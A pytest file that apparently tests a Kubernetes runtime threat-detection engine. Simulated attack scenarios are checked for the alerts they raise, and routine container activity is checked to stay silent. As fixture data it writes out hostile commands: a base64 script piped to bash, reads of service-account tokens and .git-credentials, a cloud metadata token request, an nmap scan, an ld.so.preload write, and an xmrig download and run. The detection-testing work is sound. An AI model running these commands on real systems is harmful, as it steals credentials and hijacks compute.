"""Runtime analytics over the acceptance scenarios, and over ordinary work that must stay quiet."""

from __future__ import annotations

import re
from collections.abc import Iterable
from pathlib import Path

import pytest
from seawall.catalog import collect
from seawall.detection.declaration import Detection
from seawall.detection.engine import Engine
from seawall.domain.runtime_events import (
    Connect,
    DnsQuery,
    FileOpen,
    NamespaceChange,
    RuntimeEvent,
    SensitiveRead,
)

from tests.support.runtime import event, process, ran, shell

RULES = collect("seawall.detection.rules.runtime", Detection)
BY_ID = {rule.id: rule for rule in RULES}
PHP = ("sh", "apache2 -DFOREGROUND")
B64 = "echo aWQgPiAvdG1wL3g7IHVuYW1lIC1hCg== | base64 -d | bash"


def raised(events: Iterable[RuntimeEvent]) -> set[str]:
    """Catalogue identifiers of what the events raise."""
    engine = Engine(RULES)
    alerts = engine.run(events)
    assert not engine.stats.errors
    return {name for alert in alerts for name in (*BY_ID[alert.analytic].catalogue, alert.analytic)}


TOKEN = "/run/secrets/kubernetes.io/serviceaccount/token"
SCENARIOS = {
    "reconnaissance": (
        [
            shell(B64, above=("apache2 -DFOREGROUND",)),
            ran(f"cat {TOKEN}", above=PHP),
            event(SensitiveRead, process(f"cat {TOKEN}", above=PHP), path=TOKEN),
            ran("nmap -sS -p 443 10.0.0.0/16", above=PHP),
        ],
        {
            "K8S.NODE_WebShellActivity†",
            "K8S.NODE_NetworkScanTool†",
            "K8S.NODE_TokenAccess†",
            "K8S.NODE_Base64Script†",
        },
    ),
    "lateral movement": (
        [
            shell(B64, above=("apache2 -DFOREGROUND",)),
            ran(
                "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01",
                above=PHP,
            ),
            event(Connect, process("curl x", above=PHP), address="169.254.169.254", port=80),
        ],
        {"K8S.NODE_WebShellActivity†", "K8S.NODE_ImdsCall"},
    ),
    "secrets gathering": (
        [
            ran("find / -name .git-credentials", above=PHP),
            event(SensitiveRead, process("cat /root/.git-credentials", above=PHP), path="/root/.git-credentials"),
            event(SensitiveRead, process(f"cat {TOKEN}", above=PHP), path=TOKEN),
            shell("env | grep -i secret", above=("apache2 -DFOREGROUND",)),
        ],
        {
            "K8S.NODE_WebShellActivity†",
            "K8S.NODE_SensitiveFileAccess†",
            "K8S.NODE_SecretRecon†",
            "K8S.NODE_TokenAccess†",
        },
    ),
    "crypto mining": (
        [
            shell("modprobe msr allow_writes=on", above=("apache2 -DFOREGROUND",)),
            ran("modprobe msr allow_writes=on", above=PHP),
            event(
                FileOpen,
                process("touch /etc/ld.so.preload", above=PHP),
                path="/etc/ld.so.preload",
                writes=True,
                creates=True,
            ),
            ran("curl -sLo /tmp/xmrig https://downloads.example/xmrig-6.21.tar.gz", above=PHP),
            ran("chmod +x /tmp/xmrig", above=PHP),
            ran("/tmp/xmrig -o stratum+tcp://pool.example:3333", above=PHP, drift=True, origin="upper"),
        ],
        {
            "K8S.NODE_WebShellActivity†",
            "K8S.NODE_CpuOptimization†",
            "K8S.NODE_LdPreload†",
            "K8S.NODE_CryptoCoinMinerDownload",
            "K8S.NODE_DriftDetected†",
            "K8S.NODE_DigitalCurrencyMining",
            "K8S.NODE_ChmodAfterDownload†",
        },
    ),
    "web shell": ([ran("whoami", above=PHP)], {"K8S.NODE_WebShellActivity†"}),
    "test domain": ([event(DnsQuery, "curl", name="threat-test.seawall.invalid")], {"K8S_DNS_TestDomain†"}),
    "namespace": (
        [event(NamespaceChange, "sh", operation="unshare", namespaces=("user",))],
        {"K8S.NODE_NamespaceCreation"},
    ),
}


@pytest.mark.parametrize("name", SCENARIOS)
def test_acceptance_scenarios_raise_what_they_must(name: str) -> None:
    events, wanted = SCENARIOS[name]
    assert wanted - raised(events) == set()


ORDINARY = {
    "health probe": [shell("curl -sf http://localhost:8080/healthz || exit 1", entered=True)],
    "database probe": [ran("pg_isready -U postgres", entered=True)],
    "start-up": [shell("exec nginx -g 'daemon off;'"), ran("nginx -g 'daemon off;'")],
    "package script": [
        ran("useradd --system --no-create-home redis", above=("sh", "dpkg --configure -a", "apt-get install redis"))
    ],
    "image build": [
        shell("curl -fsSL https://deb.example/setup.sh | bash", above=("buildkit-runc", "buildkitd")),
        ran("apt-get install -y curl", above=("sh", "buildkitd")),
    ],
    "application reads its token": [event(SensitiveRead, "java -jar app.jar", path=TOKEN)],
    "application resolves": [
        event(DnsQuery, "java", name="db.shop.svc.cluster.local"),
        event(DnsQuery, "java", name="api.github.com"),
    ],
    "application connects": [event(Connect, "java -jar app.jar", address="10.0.0.7", port=5432)],
    "log written": [event(FileOpen, "nginx", path="/var/log/nginx/access.log", writes=True)],
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_work_is_quiet(name: str) -> None:
    assert raised(ORDINARY[name]) == set()


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_declarations_are_whole(rule: Detection) -> None:
    assert re.fullmatch(r"RT-\d{4}", rule.id)
    assert rule.doc
    assert rule.needs
    assert rule.benign
    assert rule.investigate
    assert rule.response
    for name in (*rule.by.split("+"), rule.distinct) if rule.window else ():
        assert hasattr(rule.on, name), name


@pytest.mark.shared
def test_every_row_of_the_catalogue_has_an_analytic(shared_data: Path) -> None:
    text = (shared_data.parent / "reference/alerts.md").read_text()
    rows = re.findall(r"^\| \d+ \| `([^`]+)` \|[^|]+\| (\w+)", text, re.MULTILINE)
    wanted = {name for name, source in rows if source in ("sensor", "DNS", "drift", "malware")}
    assert len(wanted) == 123
    assert wanted - {name for rule in RULES for name in rule.catalogue} == set()
